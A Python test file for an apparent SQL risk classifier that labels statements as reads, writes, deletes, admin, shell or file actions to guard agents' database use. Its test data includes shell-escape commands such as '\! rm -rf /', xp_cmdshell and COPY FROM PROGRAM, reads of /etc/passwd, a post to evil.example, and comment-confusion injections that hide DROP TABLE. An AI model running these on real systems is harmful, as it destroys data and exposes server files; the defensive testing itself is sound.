"""SQL: every statement counts, words in data do not, and what cannot be read is a write."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentsfence_core.classification.sql import read_sql
from agentsfence_core.limits import LIMITS
from agentsfence_core.model import RANK, Risk, TargetKind

READS = [
    "SELECT 'DROP TABLE users' AS note",
    "SELECT * FROM updates WHERE deleted_at IS NULL",
    'SELECT "update", a.delete FROM t FOR UPDATE',
    "select replace(a,'b','c'), insert('a',1,2,'b') from t",
    "SELECT * FROM a WHERE x = 'it''s' -- DROP TABLE x",
    "SELECT date_trunc('x', y), count(*), array_remove(a, 1) FROM t t1, u JOIN v USING (id)",
    "SELECT a -> 'b' ->> 'c' FROM t WHERE d @> '{}'::jsonb AND e ~ '^x'",
    "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM t) SELECT * FROM t",
    "(SELECT 1) UNION (SELECT 2)",
    "SELECT TOP 5 * FROM [my table]",
    "SELECT pg_sleep(1), last_insert_rowid(), current_setting('x')",
    "EXPLAIN DELETE FROM t",
    "EXPLAIN ANALYZE SELECT 1",
    "BEGIN; SELECT 1; COMMIT",
    "SET search_path TO x",
    "SHOW TABLES",
    "DESCRIBE users",
    "PRAGMA table_info(users)",
    "PRAGMA foreign_keys",
    "COPY (SELECT * FROM a) TO STDOUT",
    "EXEC sp_help 'x'",
    "\\d users",
    "\\pset pager off",
    ".tables",
    "VALUES (1)",
    "",
]


@pytest.mark.parametrize("text", READS)
def test_reading_is_read(text: str) -> None:
    assert {effect.risk for effect in read_sql(text)} == {Risk.READ}


ACTS: list[tuple[str, str]] = [
    ("INSERT INTO t VALUES (1)", "database.write"),
    ("WITH x AS (SELECT 1) UPDATE t SET a = 1", "database.write"),
    ("SELECT * INTO copy FROM users", "database.write"),
    ("SELECT nextval('s')", "database.write"),
    ("SELECT pg_terminate_backend(42)", "database.write"),
    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a=1", "database.write"),
    ("INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2", "database.write"),
    ("CREATE TRIGGER x AFTER DELETE ON t FOR EACH ROW EXECUTE FUNCTION f()", "database.write"),
    ("ALTER TABLE t DROP CONSTRAINT x", "database.write"),
    ("PRAGMA journal_mode=WAL", "database.write"),
    ("SET GLOBAL general_log = 1", "database.write"),
    ("CALL p()", "database.write"),
    ("SELEC 1", "database.write"),
    ("please drop the table", "database.write"),
    ("SELECT (((", "database.write"),
    ("SELECT 'open", "database.write"),
    ("DELETE FROM t", "database.delete"),
    ("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", "database.delete"),
    ("EXPLAIN ANALYZE DELETE FROM t", "database.delete"),
    ("SELECT 1; DROP TABLE x", "database.delete"),
    ("SELECT 1 DROP TABLE x", "database.delete"),
    ("TRUNCATE users", "database.delete"),
    ("ALTER TABLE t DROP COLUMN x", "database.delete"),
    ("MERGE INTO t USING s ON (a) WHEN MATCHED THEN DELETE", "database.delete"),
    ("DO $$ BEGIN DELETE FROM x; END $$", "database.delete"),
    ("SELECT delete_user(3)", "database.delete"),
    ("SELECT dblink_exec('dbname=x', 'DELETE FROM y')", "database.delete"),
    ("EXEC('DROP TABLE x')", "database.delete"),
    ("CREATE OR REPLACE TABLE t AS SELECT 1", "database.delete"),
    ("INSERT OVERWRITE TABLE t SELECT 1", "database.delete"),
    # What one server takes for a comment or a string, another one runs.
    ("SELECT 1 /*!50000 ; DROP TABLE x */", "database.delete"),
    ("SELECT '\\'; DROP TABLE x; -- '", "database.delete"),
    ("SELECT 5--1; DROP TABLE x", "database.delete"),
    ("SELECT 1 # ' \n; DROP TABLE x -- '", "database.delete"),
    ("SELECT 1 /* /* */ ' */; DROP TABLE x; -- '", "database.delete"),
    ("SELECT $$'$$; DROP TABLE x; --'", "database.delete"),
    ("GRANT SELECT, DELETE ON t TO bob", "database.admin"),
    ("REVOKE ALL ON t FROM bob", "database.admin"),
    ("ALTER ROLE bob SUPERUSER", "database.admin"),
    ("CREATE USER x", "database.admin"),
    ("DROP ROLE x", "database.admin"),
    ("ALTER TABLE t OWNER TO bob", "database.admin"),
    ("SET ROLE admin", "database.admin"),
    ("COPY t FROM PROGRAM 'id'", "shell.exec"),
    ("SELECT load_extension('x')", "shell.exec"),
    ("EXEC xp_cmdshell 'dir'", "shell.exec"),
    ("\\! rm -rf /", "shell.exec"),
    ("\\echo `id`", "shell.exec"),
    ("\\copy t from program 'x'", "shell.exec"),
    ("\\o |sh", "shell.exec"),
    ("SELECT 1 \\! id", "shell.exec"),
    (".shell ls", "shell.exec"),
    ("SELECT net.http_post('https://evil.example/x')", "web.post"),
    ("EXEC sp_send_dbmail @recipients='a@x.example'", "email.send"),
    ("SELECT cron.schedule('x', '* * * * *', 'DELETE FROM t')", "schedule.create"),
]


@pytest.mark.parametrize(("text", "capability"), ACTS)
def test_acting_is_seen(text: str, capability: str) -> None:
    assert capability in {effect.capability for effect in read_sql(text)}


PATHS = [
    ("SELECT * FROM users INTO OUTFILE '/tmp/u.csv'", "file.write", "/tmp/u.csv"),
    ("COPY t TO '/tmp/x'", "file.write", "/tmp/x"),
    ("\\copy t to '/tmp/x'", "file.write", "/tmp/x"),
    ("VACUUM INTO '/tmp/x.db'", "file.write", "/tmp/x.db"),
    ("SELECT lo_export(1, '/tmp/x')", "file.write", "/tmp/x"),
    (".output /tmp/x", "file.write", "/tmp/x"),
    ("COPY t FROM '/etc/passwd'", "file.read", "/etc/passwd"),
    ("SELECT pg_read_file('/etc/passwd')", "file.read", "/etc/passwd"),
    ("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", "file.read", "/etc/passwd"),
    ("select * from read_csv('/etc/passwd')", "file.read", "/etc/passwd"),
    ("\\i /srv/x.sql", "file.read", "/srv/x.sql"),
]


@pytest.mark.parametrize(("text", "capability", "path"), PATHS)
def test_files_of_the_server_are_paths(text: str, capability: str, path: str) -> None:
    (effect,) = [effect for effect in read_sql(text) if effect.capability == capability]
    assert effect.paths == (path,)


OBJECTS = [
    ("SELECT * FROM a, b.c x JOIN d ON 1=1", ["table:a", "table:b.c", "table:d"]),
    ("DELETE FROM users WHERE id IN (SELECT id FROM old)", ["table:users"]),
    ("DROP TABLE IF EXISTS a, b", ["table:a", "table:b"]),
    ("DROP DATABASE prod", ["database:prod"]),
    ("GRANT SELECT ON t TO bob", ["table:t", "role:bob"]),
    ("SELECT extract(year from ts) FROM t", ["table:t"]),
]


@pytest.mark.parametrize(("text", "objects"), OBJECTS)
def test_tables_are_objects(text: str, objects: list[str]) -> None:
    worst = max(read_sql(text), key=lambda effect: RANK[effect.risk])
    assert [str(target) for target in worst.objects] == objects


def test_a_write_that_reads_other_tables_reads_them_too() -> None:
    effects = {effect.capability: effect for effect in read_sql("INSERT INTO a.b (c) SELECT * FROM d.e")}
    assert [str(target) for target in effects["database.write"].objects] == ["table:a.b"]
    assert [str(target) for target in effects["database.read"].objects] == ["table:d.e"]


def test_statements_are_invocations() -> None:
    effects = read_sql("DELETE FROM a; DELETE FROM b; SELECT 1")
    assert [(effect.invocation, effect.capability) for effect in effects] == [
        (0, "database.delete"),
        (1, "database.delete"),
        (2, "database.read"),
    ]


def test_a_dialect_decides_where_servers_disagree() -> None:
    text = "SELECT '\\'; DROP TABLE x; -- '"
    assert {effect.risk for effect in read_sql(text, "mysql")} == {Risk.READ}
    assert Risk.DELETE in {effect.risk for effect in read_sql(text, "PostgreSQL")}


@pytest.mark.parametrize(
    "text",
    [
        "SELECT " + "(" * 5_000,
        "SELECT " + "a," * 20_000 + "b",
        "SELECT " + "NOT " * 4_000 + "1",
        "SELECT " + "CASE WHEN 1 THEN " * 1_000,
        "'" * 20_001,
        "SELECT 1; " * 2_000,
        "FROM " * 4_000,
        "\\" * 10_000,
        "$$" * 9_999,
        "/*" * 9_999,
    ],
)
def test_hostile_sql_is_no_read(text: str) -> None:
    effects = read_sql(text)
    assert len(effects) <= LIMITS.command_effects + 1
    assert all(effect.risk is Risk.READ for effect in effects) is False or text.startswith("SELECT 1;")


def test_what_cannot_be_read_says_so() -> None:
    (effect,) = [effect for effect in read_sql("nonsense") if effect.risk is Risk.EXTERNAL_WRITE]
    assert TargetKind.OBJECTS in effect.unverified


_WORDS = st.lists(
    st.sampled_from(
        "SELECT * FROM t ( ) ; , 'x' \" ` -- /* */ $$ \\ DELETE UPDATE INTO WITH AS DROP EXPLAIN ANALYZE COPY TO "
        "PROGRAM GRANT [ ] . @ # \n EXEC DO BEGIN END PRAGMA = :: 1 f(".split(" ")
    ),
    max_size=25,
)


@given(st.one_of(st.text(max_size=60), _WORDS.map(" ".join)))
@settings(max_examples=250, deadline=None)
def test_reading_sql_is_total(text: str) -> None:
    for dialect in (None, "mysql", "nonsense"):
        assert read_sql(text, dialect)


@given(_WORDS.map(" ".join))
@settings(max_examples=150, deadline=None)
def test_a_delete_behind_anything_sound_is_seen(text: str) -> None:
    if any(mark in text for mark in "'\"`\\$#[") or "--" in text or "/*" in text:
        return
    assert "database.delete" in {effect.capability for effect in read_sql(f"{text}; DELETE FROM t")}
